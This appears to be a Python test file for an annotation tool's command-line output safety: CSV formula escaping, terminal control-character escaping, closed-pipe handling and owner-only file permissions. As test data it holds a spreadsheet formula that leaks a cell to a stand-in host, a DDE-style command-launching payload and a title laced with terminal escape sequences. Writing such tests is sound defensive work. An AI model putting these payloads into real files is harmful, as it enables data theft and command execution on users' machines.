"""Output to people and tools: spreadsheets never run a cell, terminals never run a title,
a closed pipe ends a listing quietly, and files holding document text are owner-only."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import pty
import stat
import subprocess
import sys
from pathlib import Path

from click.testing import CliRunner

from annotator.cli import cli
from annotator.project import Project
from tests.conftest import REPO

EVIL_TITLE = "Seoul \x1b[2J\x1b]0;owned\x07 welcomes \u202eabc"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def make(path: Path, n_docs: int = 1) -> Path:
    source = path.with_suffix(".jsonl")
    lines = [{"title": EVIL_TITLE, "text": f"{FORMULA} said the ministry.\r\nNothing else."}]
    lines += [{"title": f"Article {i} " + "x" * 60, "text": f"Text {i}."} for i in range(n_docs - 1)]
    source.write_text("\n".join(json.dumps(line) for line in lines), encoding="utf-8")
    with Project.create(path, annotator="alice") as project:
        project.import_paths([source])
        end = len(FORMULA)
        project.annotate(1, 0, end, "COMMITMENT", {"note": "@SUM(1+1)*cmd|' /C calc'!A0",
                                                    "polarity": "SUPPORT"})
        project.set_status(1, "done")
    return path


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    path = make(tmp_path / "p.annotator")
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    result = CliRunner().invoke(cli, ["export", str(path), str(safe), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert "written as text" in result.output
    assert CliRunner().invoke(cli, ["export", str(path), str(raw), "--format", "csv",
                                    "--raw-cells"]).exit_code == 0
    (row,) = list(csv.DictReader(io.StringIO(safe.read_text(encoding="utf-8-sig"))))
    assert row["text"] == "'" + FORMULA
    assert row["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["title"] == EVIL_TITLE  # starts with a letter: untouched
    for (column, value) in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column
    (raw_row,) = list(csv.DictReader(io.StringIO(raw.read_text(encoding="utf-8-sig"))))
    assert raw_row["text"] == FORMULA and raw_row["note"].startswith("@SUM")


def _on_a_terminal(*args: str) -> bytes:
    main, child = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "annotator", *args], cwd=REPO, stdout=child,
                               stderr=child, stdin=subprocess.DEVNULL)
    os.close(child)
    out = b""
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(main)
    assert process.wait(timeout=60) == 0, out
    return out


def test_titles_and_texts_printed_to_a_terminal_have_control_characters_escaped(tmp_path):
    path = make(tmp_path / "p.annotator")
    listing = _on_a_terminal("docs", str(path))
    shown = _on_a_terminal("show", str(path), "1")
    for out in (listing, shown):
        assert b"\x1b" not in out and b"\x07" not in out and "\u202e".encode() not in out, out
        assert b"Seoul \\x1b[2J\\x1b]0;owned\\x07 welcomes \\u202eabc" in out
    assert b"said the ministry.\r\r\nNothing else." in shown  # CRLF text kept (the tty adds its CR)
    piped = subprocess.run([sys.executable, "-m", "annotator", "show", str(path), "1", "--json"],
                           cwd=REPO, capture_output=True, check=True)
    assert json.loads(piped.stdout)["document"]["title"] == EVIL_TITLE  # scripts get the real text


def test_a_listing_into_a_closed_pipe_ends_quietly(tmp_path, _isolated_home):
    path = make(tmp_path / "p.annotator", n_docs=200)
    read, write = os.pipe()
    fcntl.fcntl(write, 1031, 4096)  # F_SETPIPE_SZ: a small pipe fills after a few lines
    process = subprocess.Popen([sys.executable, "-m", "annotator", "docs", str(path)], cwd=REPO,
                               stdout=write, stderr=subprocess.PIPE)
    os.close(write)
    with os.fdopen(read, "rb") as reader:
        first = reader.readline()  # `| head -1`
    _, err = process.communicate(timeout=60)
    assert first.strip().startswith(b"1 ")
    assert err == b"", err
    assert process.returncode == 141
    assert not list(Path(_isolated_home).rglob("crash.log"))


def test_files_holding_document_text_are_owner_only(tmp_path):
    path = make(tmp_path / "p.annotator")
    outputs = {"export": tmp_path / "out.jsonl", "actors": tmp_path / "actors.jsonl",
               "scheme": tmp_path / "scheme.toml"}
    for args in (["export", str(path), str(outputs["export"]), "--status", "any"],
                 ["actors", str(path), "--export", str(outputs["actors"])],
                 ["scheme", str(path), "--export", str(outputs["scheme"])]):
        assert CliRunner().invoke(cli, args).exit_code == 0
    for written in (path, *outputs.values()):
        assert stat.S_IMODE(written.stat().st_mode) == 0o600, written
